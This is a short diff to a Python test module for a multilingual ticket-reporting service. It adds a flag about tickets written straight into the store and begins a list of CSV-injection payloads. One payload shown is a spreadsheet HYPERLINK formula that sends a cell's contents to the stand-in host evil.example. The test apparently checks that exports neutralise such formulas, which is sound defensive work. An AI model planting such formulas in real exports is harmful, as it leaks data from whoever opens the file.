@@ -14,6 +14,10 @@ from chalicelib.domain.ticket import Channel, Kind, Product, Reporter, open_tick
 from chalicelib.i18n import LANGUAGES, t
 from tests.service.test_reports import World
 
+# Tickets are written straight into the store here (history for a month's report), not armed in the
+# sweep's due index by the services: the due-index check after each scenario does not apply.
+TICKETS_GO_THROUGH_THE_SERVICES = False
+
 # Payloads from the CSV-injection literature: each starts a formula, a DDE call or a command.
 FORMULAS = (
     '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
